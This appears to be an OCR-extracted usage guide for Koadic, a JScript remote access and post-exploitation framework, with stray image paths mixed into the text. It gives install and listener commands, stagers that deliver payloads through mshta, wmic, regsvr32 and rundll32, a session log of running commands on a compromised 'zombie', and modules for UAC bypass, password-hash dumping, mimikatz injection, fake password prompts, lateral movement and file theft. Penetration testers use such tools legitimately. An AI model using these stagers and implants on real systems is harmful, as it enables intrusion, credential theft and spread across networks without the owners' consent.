Koadic C3 COM Command & Control - JScript RAT

Windows post-exploitation rootkit similar to other penetration testing tools such as Meterpreter and Powershell Empire.


git clone https://github.com/zerosum0x0/koadic
git submodule init
git submodule update
pip2.7 install -r requirements.txt --user
python2.7 koadic

Set a listener

use stager/js/mshta
set SRVPORT 4444

[>] mshta
use stager/js/wmic
set SRVPORT 4444

[>] wmic os get /FORMAT:""


Stagers hook target zombies and allow you to use implants.Module Description
stager/js/mshta serves payloads using MSHTA.exe HTML Applications
stager/js/regsvr serves payloads using regsvr32.exe COM+ scriptlets
stager/js/wmic serves payloads using WMIC XSL
stager/js/rundll32_js serves payloads using rundll32.exe
stager/js/disk serves payloads using files on disk

List zombies and interact with them

(koadic: sta/js/wmic)$ zombies

        ID   IP              STATUS  LAST SEEN
        ---  ---       --- ---
        0    Alive   2018-10-04 17:07:12

(koadic: sta/js/wmic)$ zombies 0
        ID:                     0
        Status:                 Alive
        First Seen:             2018-10-04 17:05:00
        Last Seen:              2018-10-04 17:14:42
        User:                   DESKTOP-68URA9U\CrashWin
        Elevated:               No

Interact with zombies zombie_id, get a shell with cmdshell zombie_id.

[koadic: ZOMBIE 0 ( - C:\Users\CrashWin]> whoami
[*] Zombie 0: Job 1 (implant/manage/exec_cmd) created.
[+] Zombie 0: Job1 (implant/manage/exec_cmd) completed.
Result for `cd C:\Users\CrashWin & whoami`:

Use an implant

Select an implant with use module, then fill the info with set INFO value, finally start the module with run.

(koadic: sta/js/mshta)$ use implant/phish/password_box
(koadic: imp/phi/password_box)$ set ZOMBIE 1
(koadic:imp/phi/password_box)$ run
Input contents:


Implants start jobs on zombies.

Module Description
implant/elevate/bypassuac_eventvwr Usesenigma0x3’s eventvwr.exe exploit to bypass UAC on Windows 7, 8, and 10.
implant/elevate/bypassuac_sdclt Uses enigma0x3’s sdclt.exe exploit to bypass UAC on Windows 10.
implant/fun/zombie Maxes volume and opens The Cranberries YouTube in a hidden window.
implant/fun/voice Plays a message over text-to-speech.
implant/gather/clipboard Retrieves the current content of the user clipboard.
implant/gather/enum_domain_info Retrieve information about the Windows domain.
implant/gather/hashdump_sam Retrieves hashed passwords from the SAM hive.
implant/gather/hashdump_dc Domain controller hashes from the NTDS.dit file.
implant/gather/user_hunter Locate users logged on to domain computers (using Dynamic Wrapper X).
implant/inject/mimikatz_dynwrapx Injects a reflective-loaded DLL to run powerkatz.dll (using Dynamic Wrapper X).
implant/inject/mimikatz_dotnet2js Injects a reflective-loaded DLL to run powerkatz.dll (@tirannido DotNetToJS).
implant/inject/shellcode_excel Runs arbitrary shellcode payload (if Excel is installed).
implant/manage/enable_rdesktop Enables remote desktop on the target.
implant/manage/exec_cmd Run an arbitrary command on the target, and optionally receive the output.
implant/phishing/password_box Prompt a user to enter their password.
implant/pivot/stage_wmi Hook a zombie on another machine using WMI.
implant/pivot/exec_psexec Run a command on another machine using psexec from sysinternals.
implant/scan/tcp Uses HTTP to scan open TCP ports on the target zombie LAN.
implant/utils/download_file Downloads a file from the target zombie.
implant/utils/multi_module Run a number of implants insuccession.
implant/utils/upload_file Uploads a file from the listening server to the target zombies.